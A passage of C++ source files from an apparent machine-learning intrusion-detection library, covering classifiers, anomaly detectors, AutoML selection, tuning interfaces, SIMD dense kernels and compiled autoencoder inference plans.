    while (j + 1 < n && scores[order[j + 1]] == scores[order[i]]) ++j;
    const double mid = 0.5 * (static_cast<double>(i) + static_cast<double>(j)) + 1.0;
    for (size_t k = i; k <= j; ++k) rank[order[k]] = mid;
    i = j + 1;
  }

  double rank_sum_pos = 0.0;
  for (size_t k = 0; k < n; ++k) {
    if (y_true[k] != 0) rank_sum_pos += rank[k];
  }
  const double u = rank_sum_pos -
                   static_cast<double>(n_pos) * (static_cast<double>(n_pos) + 1.0) / 2.0;
  return u / (static_cast<double>(n_pos) * static_cast<double>(n_neg));
}

}  // namespace lumen::ml
