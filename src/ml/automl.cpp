#include "ml/automl.h"

#include <numeric>

#include "ml/bayes.h"
#include "ml/forest.h"
#include "ml/linear.h"
#include "ml/metrics.h"
#include "ml/tree.h"

namespace lumen::ml {

std::vector<std::function<ModelPtr()>> default_automl_grid() {
  return {
      [] { return std::make_shared<RandomForest>(ForestConfig{.n_trees = 15, .max_depth = 10}); },
      [] { return std::make_shared<RandomForest>(ForestConfig{.n_trees = 30, .max_depth = 14}); },
      [] { return std::make_shared<DecisionTree>(TreeConfig{.max_depth = 12}); },
      [] { return std::make_shared<GaussianNB>(); },
      [] { return std::make_shared<LogisticRegression>(); },
  };
}

AutoMl::AutoMl(AutoMlConfig cfg) : cfg_(std::move(cfg)) {
  if (cfg_.candidates.empty()) cfg_.candidates = default_automl_grid();
}

void AutoMl::fit(const FeatureTable& X) {
  best_.reset();
  winner_name_ = "none";
  winner_f1_ = -1.0;
  if (X.rows < 8) {
    best_ = cfg_.candidates.front()();
    best_->fit(X);
    winner_name_ = best_->name();
    return;
  }

  // Shuffled holdout split.
  std::vector<size_t> idx(X.rows);
  std::iota(idx.begin(), idx.end(), 0);
  Rng rng(cfg_.seed);
  rng.shuffle(idx);
  const size_t n_val =
      std::max<size_t>(1, static_cast<size_t>(cfg_.holdout_fraction *
                                              static_cast<double>(X.rows)));
  std::vector<size_t> val_idx(idx.begin(), idx.begin() + static_cast<std::ptrdiff_t>(n_val));
  std::vector<size_t> tr_idx(idx.begin() + static_cast<std::ptrdiff_t>(n_val), idx.end());
  const FeatureTable tr = X.select_rows(tr_idx);
  const FeatureTable val = X.select_rows(val_idx);

  for (const auto& make : cfg_.candidates) {
    ModelPtr m = make();
    m->fit(tr);
    const std::vector<int> pred = m->predict(val);
    const double score = f1(confusion(val.labels, pred));
    if (score > winner_f1_) {
      winner_f1_ = score;
      best_ = std::move(m);
      winner_name_ = best_->name();
    }
  }

  // Refit the winner on the full training table.
  ModelPtr refit;
  for (const auto& make : cfg_.candidates) {
    ModelPtr m = make();
    if (m->name() == winner_name_) {
      refit = std::move(m);
      // Keep scanning: identical names with different configs — the first
      // match is the cheapest member of that family, which is acceptable
      // for refitting; prefer exactness by breaking on pointer equality.
      break;
    }
  }
  if (refit) {
    refit->fit(X);
    best_ = std::move(refit);
  }
}

std::vector<double> AutoMl::score(const FeatureTable& X) const {
  return best_ ? best_->score(X) : std::vector<double>(X.rows, 0.0);
}

std::vector<int> AutoMl::predict(const FeatureTable& X) const {
  return best_ ? best_->predict(X) : std::vector<int>(X.rows, 0);
}

std::string AutoMl::name() const { return "AutoML(" + winner_name_ + ")"; }

}  // namespace lumen::ml
