// Model interface shared by every learner in Lumen.
//
// Two families implement it:
//  * supervised classifiers  — fit() consumes X.labels; score() returns an
//    estimate of P(malicious); predict() thresholds at 0.5.
//  * unsupervised anomaly detectors — fit() trains on the BENIGN rows only
//    (they filter internally, mirroring how Kitsune/OCSVM-style systems are
//    trained on clean traffic); score() returns an anomaly score and fit()
//    calibrates a threshold from a high quantile of benign training scores.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "common/rng.h"
#include "features/table.h"

namespace lumen::ml {

using features::FeatureTable;

class Model {
 public:
  virtual ~Model() = default;

  /// Train. Supervised models use X.labels; unsupervised models use only the
  /// rows whose label is 0.
  virtual void fit(const FeatureTable& X) = 0;

  /// Per-row decision value. Higher = more likely malicious/anomalous.
  virtual std::vector<double> score(const FeatureTable& X) const = 0;

  /// Per-row 0/1 prediction.
  virtual std::vector<int> predict(const FeatureTable& X) const = 0;

  virtual std::string name() const = 0;
  virtual bool is_supervised() const = 0;
};

using ModelPtr = std::shared_ptr<Model>;

/// Helper for unsupervised detectors: pick the benign row indices.
std::vector<size_t> benign_rows(const FeatureTable& X);

/// Helper: threshold = `quantile` of `scores` (copied, then sorted).
double quantile_threshold(std::vector<double> scores, double quantile);

/// Thresholded prediction shared by the anomaly detectors.
std::vector<int> threshold_predict(const std::vector<double>& scores,
                                   double threshold);

}  // namespace lumen::ml
