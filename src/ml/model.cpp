#include "ml/model.h"

#include <algorithm>

namespace lumen::ml {

std::vector<size_t> benign_rows(const FeatureTable& X) {
  std::vector<size_t> idx;
  idx.reserve(X.rows);
  for (size_t r = 0; r < X.rows; ++r) {
    if (X.labels[r] == 0) idx.push_back(r);
  }
  return idx;
}

double quantile_threshold(std::vector<double> scores, double quantile) {
  if (scores.empty()) return 0.0;
  std::sort(scores.begin(), scores.end());
  // Clamp like features::percentile: q outside [0, 1] (possible from a
  // miswritten template) must not index outside the sorted array, and NaN
  // routes to the minimum.
  if (!(quantile > 0.0)) return scores.front();
  if (quantile >= 1.0) return scores.back();
  const double rank =
      quantile * static_cast<double>(scores.size() - 1);
  const size_t lo = static_cast<size_t>(rank);
  const size_t hi = std::min(lo + 1, scores.size() - 1);
  const double frac = rank - static_cast<double>(lo);
  return scores[lo] * (1.0 - frac) + scores[hi] * frac;
}

std::vector<int> threshold_predict(const std::vector<double>& scores,
                                   double threshold) {
  std::vector<int> out(scores.size());
  for (size_t i = 0; i < scores.size(); ++i) {
    out[i] = scores[i] > threshold ? 1 : 0;
  }
  return out;
}

}  // namespace lumen::ml
