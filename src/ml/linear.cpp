#include "ml/linear.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "features/stats.h"
#include "ml/dense.h"

namespace lumen::ml {

void LinearModel::standardize_fit(const FeatureTable& X) {
  mean_.assign(X.cols, 0.0);
  inv_sd_.assign(X.cols, 1.0);
  for (size_t c = 0; c < X.cols; ++c) {
    features::RunningStats rs;
    for (size_t r = 0; r < X.rows; ++r) rs.add(X.at(r, c));
    mean_[c] = rs.mean();
    const double sd = rs.stddev();
    inv_sd_[c] = sd > 1e-12 ? 1.0 / sd : 1.0;
  }
}

std::vector<double> LinearModel::standardized(std::span<const double> x) const {
  std::vector<double> z(x.size());
  for (size_t c = 0; c < x.size(); ++c) z[c] = (x[c] - mean_[c]) * inv_sd_[c];
  return z;
}

double LinearModel::margin(std::span<const double> x) const {
  double m = b_;
  for (size_t c = 0; c < w_.size() && c < x.size(); ++c) m += w_[c] * x[c];
  return m;
}

void LinearModel::fit(const FeatureTable& X) {
  standardize_fit(X);
  w_.assign(X.cols, 0.0);
  b_ = 0.0;
  if (X.rows == 0) return;

  // Class weights to compensate for the benign-heavy imbalance typical of
  // IDS training sets.
  size_t n_pos = 0;
  for (int y : X.labels) n_pos += (y != 0);
  const size_t n_neg = X.rows - n_pos;
  const double w_pos =
      n_pos > 0 ? static_cast<double>(X.rows) / (2.0 * n_pos) : 1.0;
  const double w_neg =
      n_neg > 0 ? static_cast<double>(X.rows) / (2.0 * n_neg) : 1.0;

  std::vector<size_t> order(X.rows);
  std::iota(order.begin(), order.end(), 0);
  Rng rng(cfg_.seed);

  for (size_t e = 0; e < cfg_.epochs; ++e) {
    rng.shuffle(order);
    const double lr = cfg_.lr / (1.0 + 0.1 * static_cast<double>(e));
    for (size_t r : order) {
      const std::vector<double> z = standardized(X.row(r));
      const double y = X.labels[r] != 0 ? 1.0 : -1.0;
      const double cw = X.labels[r] != 0 ? w_pos : w_neg;
      // L2 shrink then loss-specific update.
      const double shrink = 1.0 - lr * cfg_.l2;
      for (double& wi : w_) wi *= shrink;
      update(z, y, lr, cw);
    }
  }
}

std::vector<double> LinearModel::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (w_.size() != X.cols || X.rows == 0) return score_perrow(X);
  // Fold the standardizer into the weights:
  //   b + sum_c w_c (x_c - mean_c) inv_sd_c
  //     = (b - w_eff . mean) + w_eff . x   with w_eff = w * inv_sd,
  // so the whole table scores as one GEMV plus the score squash.
  std::vector<double> w_eff(X.cols);
  for (size_t c = 0; c < X.cols; ++c) w_eff[c] = w_[c] * inv_sd_[c];
  const double b_eff = b_ - dense::dot(X.cols, w_eff.data(), mean_.data());
  dense::gemv(X.rows, X.cols, X.data.data(), X.cols, w_eff.data(), nullptr,
              out.data());
  for (size_t r = 0; r < X.rows; ++r) out[r] = to_score(out[r] + b_eff);
  return out;
}

std::vector<double> LinearModel::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  for (size_t r = 0; r < X.rows; ++r) {
    out[r] = to_score(margin(standardized(X.row(r))));
  }
  return out;
}

std::vector<int> LinearModel::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

void LinearSvm::update(std::span<const double> x, double y, double lr,
                       double class_weight) {
  if (y * margin(x) < 1.0) {
    for (size_t c = 0; c < w_.size(); ++c) {
      w_[c] += lr * class_weight * y * x[c];
    }
    b_ += lr * class_weight * y;
  }
}

double LinearSvm::to_score(double m) const {
  // Squash margin to [0,1]; 0.5 at the decision boundary.
  return 1.0 / (1.0 + std::exp(-2.0 * m));
}

void LogisticRegression::update(std::span<const double> x, double y,
                                double lr, double class_weight) {
  const double p = 1.0 / (1.0 + std::exp(-margin(x)));
  const double target = y > 0 ? 1.0 : 0.0;
  const double g = class_weight * (target - p);
  for (size_t c = 0; c < w_.size(); ++c) w_[c] += lr * g * x[c];
  b_ += lr * g;
}

double LogisticRegression::to_score(double m) const {
  return 1.0 / (1.0 + std::exp(-m));
}

}  // namespace lumen::ml
