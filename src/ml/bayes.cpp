#include "ml/bayes.h"

#include <cmath>

namespace lumen::ml {

namespace {
constexpr double kVarFloor = 1e-9;
}

void GaussianNB::fit(const FeatureTable& X) {
  cols_ = X.cols;
  size_t count[2] = {0, 0};
  for (int c = 0; c < 2; ++c) {
    mean_[c].assign(cols_, 0.0);
    var_[c].assign(cols_, 0.0);
  }
  for (size_t r = 0; r < X.rows; ++r) {
    const int c = X.labels[r] != 0 ? 1 : 0;
    ++count[c];
    for (size_t j = 0; j < cols_; ++j) mean_[c][j] += X.at(r, j);
  }
  for (int c = 0; c < 2; ++c) {
    has_class_[c] = count[c] > 0;
    if (!has_class_[c]) continue;
    for (size_t j = 0; j < cols_; ++j) {
      mean_[c][j] /= static_cast<double>(count[c]);
    }
  }
  for (size_t r = 0; r < X.rows; ++r) {
    const int c = X.labels[r] != 0 ? 1 : 0;
    for (size_t j = 0; j < cols_; ++j) {
      const double d = X.at(r, j) - mean_[c][j];
      var_[c][j] += d * d;
    }
  }
  for (int c = 0; c < 2; ++c) {
    if (!has_class_[c]) continue;
    for (size_t j = 0; j < cols_; ++j) {
      var_[c][j] = std::max(var_[c][j] / static_cast<double>(count[c]),
                            kVarFloor);
    }
    log_prior_[c] = std::log(static_cast<double>(count[c]) /
                             static_cast<double>(X.rows));
  }
}

double GaussianNB::log_likelihood(std::span<const double> x, int cls) const {
  if (!has_class_[cls]) return -1e30;
  double ll = log_prior_[cls];
  for (size_t j = 0; j < cols_; ++j) {
    const double d = x[j] - mean_[cls][j];
    ll += -0.5 * (std::log(2.0 * M_PI * var_[cls][j]) + d * d / var_[cls][j]);
  }
  return ll;
}

std::vector<double> GaussianNB::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  for (size_t r = 0; r < X.rows; ++r) {
    const double l0 = log_likelihood(X.row(r), 0);
    const double l1 = log_likelihood(X.row(r), 1);
    // Stable softmax over two log-likelihoods -> P(malicious).
    const double m = std::max(l0, l1);
    const double e0 = std::exp(l0 - m);
    const double e1 = std::exp(l1 - m);
    out[r] = e1 / (e0 + e1);
  }
  return out;
}

std::vector<int> GaussianNB::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

}  // namespace lumen::ml
