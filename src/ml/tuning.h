// Hyperparameter tuning (§6 of the paper lists this as the natural next
// step for Lumen): deterministic grid search with k-fold cross-validation
// over any model family, generic over a params -> Model factory.
#pragma once

#include <functional>
#include <map>

#include "ml/metrics.h"
#include "ml/model.h"

namespace lumen::ml {

/// Named numeric hyperparameters (enough for every model in the zoo).
using ParamPoint = std::map<std::string, double>;

struct ParamGrid {
  std::map<std::string, std::vector<double>> axes;

  /// Cartesian product of the axes, in deterministic (sorted-key) order.
  std::vector<ParamPoint> points() const;
};

struct Trial {
  ParamPoint params;
  double mean_score = 0.0;
  double std_score = 0.0;
};

struct TuneResult {
  Trial best;
  std::vector<Trial> trials;
};

/// k-fold split: returns fold assignment (0..k-1) per row, shuffled
/// deterministically by seed.
std::vector<size_t> kfold_assignment(size_t rows, size_t k, uint64_t seed);

/// Metric evaluated on held-out predictions; higher is better.
using ScoreFn =
    std::function<double(std::span<const int> y_true, std::span<const int> y_pred)>;

/// F1 — the default tuning objective.
double f1_objective(std::span<const int> y_true, std::span<const int> y_pred);

/// Exhaustive grid search with k-fold cross-validation. `make` builds an
/// untrained model from a parameter point. Deterministic for a fixed seed.
TuneResult grid_search(const std::function<ModelPtr(const ParamPoint&)>& make,
                       const FeatureTable& X, const ParamGrid& grid,
                       size_t k_folds = 3, uint64_t seed = 101,
                       const ScoreFn& score = f1_objective);

}  // namespace lumen::ml
