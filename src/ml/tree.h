// CART decision tree classifier (gini impurity, axis-aligned splits).
// Supports bootstrap sample indices and per-split feature subsampling so the
// random forest can reuse it directly.
#pragma once

#include <cstdint>

#include "ml/model.h"

namespace lumen::ml {

struct TreeConfig {
  int max_depth = 12;
  size_t min_samples_leaf = 2;
  size_t min_samples_split = 4;
  /// Number of features considered per split; 0 = all, -1 sentinel via
  /// use_sqrt_features for sqrt(n_features).
  size_t max_features = 0;
  bool use_sqrt_features = false;
  uint64_t seed = 7;
};

class DecisionTree : public Model {
 public:
  explicit DecisionTree(TreeConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;

  /// Fit on a subset of rows (bootstrap sample); rows may repeat.
  void fit_rows(const FeatureTable& X, const std::vector<size_t>& rows);

  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "DecisionTree"; }
  bool is_supervised() const override { return true; }

  /// P(malicious) for one row.
  double predict_row(std::span<const double> x) const;

  size_t node_count() const { return nodes_.size(); }
  int depth() const { return depth_; }

  /// Tree structure, exposed for inspection and persistence.
  struct Node {
    int feature = -1;       // -1 for leaves
    double threshold = 0.0;
    int left = -1;
    int right = -1;
    double p_malicious = 0.0;
  };

  const std::vector<Node>& nodes() const { return nodes_; }

  /// Restore a previously saved tree (persistence path).
  void restore(std::vector<Node> nodes, int depth) {
    nodes_ = std::move(nodes);
    depth_ = depth;
  }

 private:

  int build(const FeatureTable& X, std::vector<size_t>& rows, size_t lo,
            size_t hi, int depth, Rng& rng);

  TreeConfig cfg_;
  std::vector<Node> nodes_;
  int depth_ = 0;
};

}  // namespace lumen::ml
