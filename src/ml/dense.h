// Dense-kernel library: the batched model math under the ML layer.
//
// Every kernel has two implementations behind a runtime-dispatched table:
//  * scalar — portable C++, compiled everywhere, and the reference
//    semantics (plain left-to-right accumulation, std::exp activations);
//  * avx2   — AVX2/FMA intrinsics compiled into dense_avx2.cpp with
//    -mavx2 -mfma (present only when the toolchain supports it and
//    LUMEN_NATIVE_SIMD is ON; chosen only when cpuid agrees at runtime).
//
// Dispatch is resolved once from simd::env_request() (LUMEN_SIMD=off forces
// scalar) but can be overridden in-process via set_backend / ScopedBackend,
// which the tests use to compare both paths and the benches use to measure
// the scalar baseline on the same build.
//
// Numerical policy: the AVX2 kernels reassociate sums (4-lane accumulators,
// blocked GEMM) and use a Cephes-style vector exp, so results may differ
// from scalar by a few ulps. Callers that calibrate thresholds must
// calibrate through the same path they score with (the ML layer does); the
// tests compare paths with explicit tolerances (see dense_test.cpp).
//
// Matrix convention: row-major everywhere, `ld*` = row stride (>= ncols).
#pragma once

#include <cstddef>
#include <vector>

namespace lumen::ml::dense {

enum class Backend {
  kAuto,    // resolve from LUMEN_SIMD + cpuid at first use
  kScalar,  // portable reference kernels
  kAvx2,    // AVX2/FMA kernels (requires avx2_available())
};

/// True when the AVX2 TU was compiled in AND the CPU can run it.
bool avx2_available();

/// The backend kernels actually execute right now.
Backend active_backend();
const char* backend_name(Backend b);

/// Process-wide override (kAuto returns control to LUMEN_SIMD + cpuid).
/// Takes effect for subsequent kernel calls; not intended to be flipped
/// while other threads are inside ML math (tests and benches only).
void set_backend(Backend b);

/// RAII backend override for tests/benches.
class ScopedBackend {
 public:
  explicit ScopedBackend(Backend b) : prev_(active_raw()) { set_backend(b); }
  ~ScopedBackend() { set_backend(prev_); }
  ScopedBackend(const ScopedBackend&) = delete;
  ScopedBackend& operator=(const ScopedBackend&) = delete;

 private:
  static Backend active_raw();  // the override slot, not the resolved value
  Backend prev_;
};

// ----------------------------------------------------------------- BLAS-1

/// sum_i x[i] * y[i]
double dot(size_t n, const double* x, const double* y);

/// y += alpha * x
void axpy(size_t n, double alpha, const double* x, double* y);

/// Plane rotation (BLAS drot): for each i,
///   x' = c*x - s*y ;  y' = s*x + c*y.
/// Strided form for the Jacobi eigen solver's column rotations; incx/incy
/// are element strides (1 = contiguous).
void rot(size_t n, double* x, size_t incx, double* y, size_t incy, double c,
         double s);

// ----------------------------------------------------------------- BLAS-2

/// y[m] = A[m x n] * x + (bias ? bias : 0). A row-major with stride lda.
void gemv(size_t m, size_t n, const double* a, size_t lda, const double* x,
          const double* bias, double* y);

/// y[n] = A^T * x where A is m x n row-major (stride lda); x has length m.
void gemv_t(size_t m, size_t n, const double* a, size_t lda, const double* x,
            double* y);

/// Rank-1 update A += alpha * x * y^T (A m x n row-major, stride lda).
void ger(size_t m, size_t n, double alpha, const double* x, const double* y,
         double* a, size_t lda);

// ----------------------------------------------------------------- BLAS-3

/// C[m x n] = A[m x k] * B[n x k]^T + (bias ? bias : 0), with bias
/// broadcast across rows (bias has length n). beta = 0 overwrites C,
/// beta = 1 accumulates into it. This is the batched-forward workhorse:
/// rows of A are samples, rows of B are a layer's `out x in` weights.
void gemm_nt(size_t m, size_t n, size_t k, const double* a, size_t lda,
             const double* b, size_t ldb, const double* bias, double beta,
             double* c, size_t ldc);

/// C[m x n] = A[m x k] * B[k x n] (beta as above). Backprop delta:
/// delta_prev[batch x in] = delta[batch x out] * W[out x in].
void gemm_nn(size_t m, size_t n, size_t k, const double* a, size_t lda,
             const double* b, size_t ldb, double beta, double* c, size_t ldc);

/// C[m x n] += alpha * A[k x m]^T * B[k x n]. Minibatch weight gradient:
/// W_grad[out x in] = delta[batch x out]^T * activations[batch x in].
void gemm_tn(size_t m, size_t n, size_t k, double alpha, const double* a,
             size_t lda, const double* b, size_t ldb, double* c, size_t ldc);

// ------------------------------------------------------------- activations

/// x[i] = 1 / (1 + exp(-x[i]))
void sigmoid_sweep(size_t n, double* x);

/// x[i] = max(0, x[i])
void relu_sweep(size_t n, double* x);

/// x[i] = exp(x[i]). Inputs are clamped to +-708 (the finite double range).
void exp_sweep(size_t n, double* x);

// --------------------------------------------------------------- distances

/// out[i] = ||x - Y_i||^2 for each of the `rows` rows of Y (stride ldy).
void sq_dist(size_t rows, size_t n, const double* x, const double* y,
             size_t ldy, double* out);

/// Below this many query rows the GEMM expansion in sq_dist_batch costs
/// more than it saves (norm passes + finalize dominate), so it falls back
/// to the direct per-row sq_dist kernel. Exposed for the crossover tests.
constexpr size_t kSqDistBatchCrossover = 16;

/// D[m x r] = ||X_i - Y_j||^2 via the ||x||^2 + ||y||^2 - 2 x.y expansion
/// (one GEMM plus two norm passes; clamped at 0 against cancellation).
/// X is m x n (stride ldx), Y is r x n (stride ldy), D has stride ldd.
/// xn / yn may pass precomputed row norms (length m / r) or be null.
/// Batches of fewer than kSqDistBatchCrossover query rows are computed with
/// the direct-difference sq_dist kernel instead (bit-identical to calling
/// sq_dist once per row), which is faster there and slightly more accurate.
void sq_dist_batch(size_t m, size_t r, size_t n, const double* x, size_t ldx,
                   const double* y, size_t ldy, const double* xn,
                   const double* yn, double* d, size_t ldd);

/// out[i] = sum_j X[i][j]^2 for each of the m rows of X (stride ldx).
void row_sq_norms(size_t m, size_t n, const double* x, size_t ldx,
                  double* out);

// ---------------------------------------------------------------- batching

/// Fixed row-block size used by the batched score() paths. A constant (not
/// thread-count dependent) so blocked results are bit-identical no matter
/// how parallel_for chunks the blocks.
constexpr size_t kScoreBlock = 64;

/// Output-column padding of the packed layouts below: a multiple of the
/// AVX2 register width, so the fused kernel never runs a scalar column
/// tail.
constexpr size_t kPackPad = 4;

/// y[m x n_pad] (stride ldy) = x[m x k] (stride ldx) * wt[k x n_pad] +
/// bias[n_pad], where wt is a pre-transposed, zero-padded weight panel
/// (see PackedDense). Contract: row i of y depends only on row i of x —
/// the per-element accumulation order is fixed (bias + sequential k), so
/// results are bit-identical no matter how rows are grouped into batches.
/// n_pad must be a multiple of kPackPad.
void packed_apply(size_t m, size_t n_pad, size_t k, const double* x,
                  size_t ldx, const double* wt, const double* bias, double* y,
                  size_t ldy);

/// A dense layer's weights packed for fused small-batch inference: the
/// `out x in` row-major matrix is transposed once into an `in x out_pad`
/// panel (out_pad = out rounded up to kPackPad, padding columns zero, bias
/// padded likewise), so apply() runs broadcast-FMA over full vectors with
/// no per-call transpose, no horizontal sums, and no column remainder.
/// This is what gives 8-64-row micro-batches real SIMD utilization: the
/// panel stays hot in L1 across the batch and every lane does useful work
/// even at KitNET-sized layers (~10 x 8).
///
/// Bit-identity contract: apply() computes row i of y from row i of x with
/// a batch-size-independent accumulation order (the packed_apply kernel
/// contract), so splitting the same rows into different micro-batches
/// yields bit-identical scores. Online scorers rely on this to make the
/// micro-batched live path reproduce the row-at-a-time alert set exactly.
class PackedDense {
 public:
  PackedDense() = default;

  /// Pack W (`out x in`, row stride ldw) and bias (length out, may be
  /// null = zeros) into the fused layout.
  void pack(size_t out, size_t in, const double* w, size_t ldw,
            const double* bias);

  bool empty() const { return out_ == 0; }
  size_t out_dim() const { return out_; }
  size_t in_dim() const { return in_; }
  size_t padded_out() const { return out_pad_; }

  /// y[m x padded_out()] (row stride ldy >= padded_out()) =
  /// x[m x in_dim()] (row stride ldx) * W^T + bias. Padding columns of y
  /// are written (with zeros); callers size y with the padded stride.
  void apply(size_t m, const double* x, size_t ldx, double* y,
             size_t ldy) const;

 private:
  size_t out_ = 0, in_ = 0, out_pad_ = 0;
  std::vector<double> wt_;    // in x out_pad, transposed, zero-padded
  std::vector<double> bias_;  // out_pad, zero-padded
};

// ------------------------------------------------------ dispatch internals

/// The kernel table one backend implements. Exposed so dense_test can pit
/// every compiled backend against the naive reference implementations.
struct Kernels {
  double (*dot)(size_t, const double*, const double*);
  void (*axpy)(size_t, double, const double*, double*);
  void (*rot)(size_t, double*, size_t, double*, size_t, double, double);
  void (*gemv)(size_t, size_t, const double*, size_t, const double*,
               const double*, double*);
  void (*gemv_t)(size_t, size_t, const double*, size_t, const double*,
                 double*);
  void (*ger)(size_t, size_t, double, const double*, const double*, double*,
              size_t);
  void (*gemm_nt)(size_t, size_t, size_t, const double*, size_t,
                  const double*, size_t, const double*, double, double*,
                  size_t);
  void (*gemm_nn)(size_t, size_t, size_t, const double*, size_t,
                  const double*, size_t, double, double*, size_t);
  void (*gemm_tn)(size_t, size_t, size_t, double, const double*, size_t,
                  const double*, size_t, double*, size_t);
  void (*sigmoid_sweep)(size_t, double*);
  void (*relu_sweep)(size_t, double*);
  void (*exp_sweep)(size_t, double*);
  void (*sq_dist)(size_t, size_t, const double*, const double*, size_t,
                  double*);
  void (*packed_apply)(size_t, size_t, size_t, const double*, size_t,
                       const double*, const double*, double*, size_t);
};

/// Backend tables (avx2_kernels() is null when unavailable on this build
/// or host). sq_dist_batch / row_sq_norms compose the table entries, so
/// they have no slot of their own.
const Kernels& scalar_kernels();
const Kernels* avx2_kernels();

}  // namespace lumen::ml::dense
