// Compiled inference plans — see compiled.h for the layout and equivalence
// contracts. The f64 neural plans reuse the dense f64 kernels with the exact
// reference call shapes (bit-identity by construction); the f32 plans ride
// the KernelsF32 table below; the i8 apply is portable scalar (the layers
// KitNET compiles are ~10x8 — the int8 win is the 8x smaller panel, not
// vector ALUs).
#include "ml/compiled.h"

#include <algorithm>
#include <cmath>
#include <cstring>
#include <limits>

#include "common/parallel.h"
#include "ml/dense.h"
#include "ml/forest.h"
#include "ml/gmm.h"
#include "ml/kernel.h"
#include "ml/kitnet.h"
#include "ml/knn.h"
#include "ml/linear.h"
#include "ml/mlp.h"
#include "ml/tree.h"

namespace lumen::ml::compiled {

const char* precision_name(Precision p) {
  switch (p) {
    case Precision::kF64:
      return "f64";
    case Precision::kF32:
      return "f32";
    case Precision::kI8:
      return "i8";
  }
  return "?";
}

// --------------------------------------------------------- float32 kernels

namespace {

void packed_apply_f32_k(size_t m, size_t n_pad, size_t k, const float* x,
                        size_t ldx, const float* wt, const float* bias,
                        float* y, size_t ldy) {
  // Reference semantics: per element, bias + sequential-k accumulation —
  // batch-size independent, mirroring dense's scalar packed_apply.
  for (size_t i = 0; i < m; ++i) {
    const float* xi = x + i * ldx;
    float* yi = y + i * ldy;
    for (size_t o = 0; o < n_pad; ++o) yi[o] = bias[o];
    for (size_t l = 0; l < k; ++l) {
      const float xl = xi[l];
      const float* wrow = wt + l * n_pad;
      for (size_t o = 0; o < n_pad; ++o) yi[o] += xl * wrow[o];
    }
  }
}

void sigmoid_sweep_f32_k(size_t n, float* x) {
  for (size_t i = 0; i < n; ++i) x[i] = 1.0f / (1.0f + std::exp(-x[i]));
}

}  // namespace

const KernelsF32& scalar_kernels_f32() {
  static const KernelsF32 k = {packed_apply_f32_k, sigmoid_sweep_f32_k};
  return k;
}

#ifdef LUMEN_DENSE_HAVE_AVX2
// Defined in compiled_avx2.cpp (the only TU built with -mavx2 -mfma).
const KernelsF32& avx2_kernels_f32_impl();
#endif

const KernelsF32* avx2_kernels_f32() {
#ifdef LUMEN_DENSE_HAVE_AVX2
  return dense::avx2_available() ? &avx2_kernels_f32_impl() : nullptr;
#else
  return nullptr;
#endif
}

const KernelsF32& active_kernels_f32() {
  if (dense::active_backend() == dense::Backend::kAvx2) {
    if (const KernelsF32* k = avx2_kernels_f32()) return *k;
  }
  return scalar_kernels_f32();
}

namespace {

constexpr size_t kNoGather = static_cast<size_t>(-1);

size_t pad_to(size_t n, size_t pad) { return (n + pad - 1) / pad * pad; }

// ------------------------------------------------------------ KitNET / AE
//
// One compiled autoencoder: gather indices, normalization constants, and
// the two packed weight panels, all as offsets into the owning plan's
// arena(s) so the whole ensemble is a single contiguous, scoring-ordered
// block.
struct AeUnit {
  size_t in = 0, hidden = 0;
  size_t hp = 0, dp = 0;      // padded panel widths (hidden / in)
  size_t gather = kNoGather;  // offset into gather index table
  // Arena offsets, in scoring order.
  size_t nmin = 0, inv = 0, enc_wt = 0, enc_b = 0, dec_wt = 0, dec_b = 0;
  // i8 extras: quantized panels + per-output-channel dequant factors.
  size_t enc_wq = 0, dec_wq = 0, enc_f = 0, dec_f = 0;
};

/// Append `n` doubles to the arena, returning their offset.
template <typename V>
size_t arena_alloc(V& arena, size_t n) {
  const size_t off = arena.size();
  arena.resize(off + n, typename V::value_type(0));
  return off;
}

/// Pack an `out x in` row-major weight matrix into the transposed
/// `in x out_pad` panel layout dense::PackedDense uses (same element
/// placement, so dense::packed_apply sees an identical panel).
template <typename T>
void pack_panel(const double* w, size_t out, size_t in, size_t out_pad,
                T* dst) {
  for (size_t o = 0; o < out; ++o) {
    for (size_t l = 0; l < in; ++l) {
      dst[l * out_pad + o] = static_cast<T>(w[o * in + l]);
    }
  }
}

/// Per-output-channel int8 quantization: wq[l*out+o] = round(w[o][l]/s_o)
/// with s_o = max_l |w[o][l]| / 127; factor[o] = s_o / 127 folds the
/// activation scale (activations quantize to 0..127) into the dequant.
void quantize_panel(const double* w, size_t out, size_t in, int8_t* wq,
                    float* factor) {
  for (size_t o = 0; o < out; ++o) {
    double maxabs = 0.0;
    for (size_t l = 0; l < in; ++l) {
      maxabs = std::max(maxabs, std::fabs(w[o * in + l]));
    }
    const double s = maxabs / 127.0;
    factor[o] = static_cast<float>(s / 127.0);
    for (size_t l = 0; l < in; ++l) {
      wq[l * out + o] =
          s > 0.0 ? static_cast<int8_t>(std::lrint(w[o * in + l] / s)) : 0;
    }
  }
}

/// Compile one AutoEncoderCore into the f64 arena.
AeUnit lower_ae_f64(const AutoEncoderCore& ae, const size_t* cluster,
                    size_t cluster_size, std::vector<double>& arena,
                    std::vector<uint32_t>& gather) {
  const AutoEncoderCore::ParamsView p = ae.params_view();
  AeUnit u;
  u.in = p.dim;
  u.hidden = p.hidden;
  u.hp = pad_to(p.hidden, dense::kPackPad);
  u.dp = pad_to(p.dim, dense::kPackPad);
  if (cluster != nullptr) {
    u.gather = gather.size();
    for (size_t j = 0; j < cluster_size; ++j) {
      gather.push_back(static_cast<uint32_t>(cluster[j]));
    }
  }
  u.nmin = arena_alloc(arena, u.in);
  std::copy(p.norm_min, p.norm_min + u.in, arena.begin() + u.nmin);
  u.inv = arena_alloc(arena, u.in);
  for (size_t c = 0; c < u.in; ++c) {
    // Same guarded-reciprocal expression as the reference score_rows.
    const double range = p.norm_max[c] - p.norm_min[c];
